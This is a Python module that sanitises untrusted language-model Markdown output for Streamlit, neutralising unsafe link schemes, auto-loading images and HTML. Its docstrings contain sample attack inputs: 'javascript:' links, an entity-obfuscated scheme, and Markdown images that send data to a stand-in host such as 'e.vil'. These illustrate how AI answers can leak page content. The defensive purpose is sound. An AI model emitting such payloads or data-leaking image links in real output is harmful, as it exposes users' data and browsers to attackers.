"""Make untrusted model output safe to show with ``st.markdown``.

Streamlit already shows raw HTML as text when ``unsafe_allow_html`` is off, and turns a
``javascript:`` link into ``#``. It does *not* stop a ``data:text/html`` link, and a
Markdown image ``![](https://host/?q=secret)`` makes the browser fetch that URL at once
(a way to leak what is on the page). So outside code blocks this module:

- keeps only ``http``, ``https`` and ``mailto`` link targets (and relative ones); other
  schemes (``javascript:``, ``data:``, ``vbscript:``, ``file:`` ...) become ``#link-removed``;
- turns images into plain links ("🖼 alt"), so nothing loads without a click;
- writes ``<`` as ``&lt;`` so no HTML tag or autolink is ever parsed;
- removes NUL and other control characters and lone surrogates, and flattens very deep
  block-quote nesting;
- caps the length (``settings.limits().max_answer_chars``) with a visible marker.

Code blocks and inline code are left as they are (they render as text anyway).

Example:
    safe = neutralize("[x](javascript:alert(1)) ![p](https://e.vil/?q=1)")
    safe.text        # '[x](#link-removed) [🖼 p](https://e.vil/?q=1)'
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass

from slm_lib import settings

__all__ = ["ALLOWED_SCHEMES", "SafeText", "is_safe_url", "neutralize"]

ALLOWED_SCHEMES = frozenset({"http", "https", "mailto"})
MAX_QUOTE_DEPTH = 8
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff]")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
# Fenced blocks (``` or ~~~, closed or running to the end) and inline code spans.
_CODE = re.compile(
    r"(^[ \t]*(`{3,}+|~{3,}+)[^\n]*\n.*?(?:^[ \t]*\2[ \t]*$|\Z)"  # a fenced block
    r"|(?<!`)(`++)[^`\n]*\3(?!`))",  # inline code; possessive runs keep the matching linear
    re.S | re.M,
)
_IMAGE = re.compile(r"!\[")
_REF_DEF = re.compile(r"^([ \t]{0,3}\[[^\]\n]+\]:[ \t]*\n?[ \t]*)(<[^>\n]*>|\S+)", re.M)
_DEEP_QUOTE = re.compile(rf"^((?:[ \t]*>){{{MAX_QUOTE_DEPTH}}})(?:[ \t]*>)+", re.M)


@dataclass(frozen=True)
class SafeText:
    """Neutralised Markdown plus what was changed, so the page can say so."""

    text: str
    truncated: bool = False
    original_chars: int = 0
    links_removed: int = 0
    images_converted: int = 0


def is_safe_url(target: str) -> bool:
    """True for http(s)/mailto and scheme-less (relative) targets, after undoing the usual disguises.

    Example:
        >>> is_safe_url("https://example.org"), is_safe_url(" jav&#x61;script:alert(1)")
        (True, False)
    """
    plain = html.unescape(target).replace("\\", "")
    plain = "".join(ch for ch in plain if ch.isprintable() and not ch.isspace()).strip("<>").lower()
    match = _SCHEME.match(plain)
    return match is None or match.group(1) in ALLOWED_SCHEMES


def _link_end(text: str, start: int) -> int:
    """Where a Markdown link destination starting at ``start`` ends (CommonMark rules, linear scan)."""
    pos = start
    while pos < len(text) and text[pos] in " \t\n":
        pos += 1
    if pos < len(text) and text[pos] == "<":
        close = text.find(">", pos)
        return len(text) if close < 0 else close + 1
    depth = 0
    while pos < len(text):
        ch = text[pos]
        if ch == "\\":
            pos += 2
            continue
        if ch.isspace():
            break
        if ch == "(":
            depth += 1
        elif ch == ")":
            if depth == 0:
                break
            depth -= 1
        pos += 1
    return min(pos, len(text))


def _inline_links(text: str, counts: dict[str, int]) -> str:
    """Replace every unsafe ``](target`` destination with ``#link-removed`` (the link text stays)."""
    out, pos = [], 0
    while (found := text.find("](", pos)) >= 0:
        start = found + 2
        end = _link_end(text, start)
        target = text[start:end]
        out.append(text[pos:start])
        if is_safe_url(target):
            out.append(target)
        else:
            counts["links"] += 1
            out.append("#link-removed")
        pos = end
    out.append(text[pos:])
    return "".join(out)


def _prose(text: str, counts: dict[str, int]) -> str:
    """Neutralise one stretch of text that is not code."""

    def image(_: re.Match[str]) -> str:
        counts["images"] += 1
        return "[🖼 "

    def ref(m: re.Match[str]) -> str:
        if is_safe_url(m.group(2)):
            return m.group(0)
        counts["links"] += 1
        return m.group(1) + "#link-removed"

    text = _IMAGE.sub(image, text)
    text = _inline_links(text, counts)
    text = _REF_DEF.sub(ref, text)
    text = _DEEP_QUOTE.sub(lambda m: m.group(1), text)
    # The entity renders as "<" but can never open an HTML tag or an <autolink>, whatever precedes it.
    return text.replace("<", "&lt;")


def neutralize(text: str, max_chars: int | None = None) -> SafeText:
    """Return ``text`` made safe for ``st.markdown`` (see the module docstring); never raises.

    Args:
        text: untrusted Markdown, e.g. a model's answer.
        max_chars: length cap; ``None`` means ``settings.limits().max_answer_chars``.
    """
    raw = text if isinstance(text, str) else str(text)
    cap = settings.limits().max_answer_chars if max_chars is None else max_chars
    truncated = len(raw) > cap
    body = raw[:cap] if truncated else raw  # cut first: everything after is bounded by the cap
    body = _CONTROL.sub(lambda m: "" if m.group(0) < "\ud800" else "\ufffd", body)
    counts = {"links": 0, "images": 0}
    pieces, last = [], 0
    for m in _CODE.finditer(body):
        pieces.append(_prose(body[last : m.start()], counts))
        pieces.append(m.group(0))
        last = m.end()
    pieces.append(_prose(body[last:], counts))
    out = "".join(pieces)
    if truncated:
        if _open_fence(out):
            out += "\n```"
        out += f"\n\n*[… truncated: showing {cap:,} of {len(raw):,} characters]*"
    return SafeText(out, truncated, len(raw), counts["links"], counts["images"])


def _open_fence(text: str) -> bool:
    """True when the text ends inside a ``` fence (so the marker would render as code)."""
    return len(re.findall(r"^[ \t]*```", text, re.M)) % 2 == 1
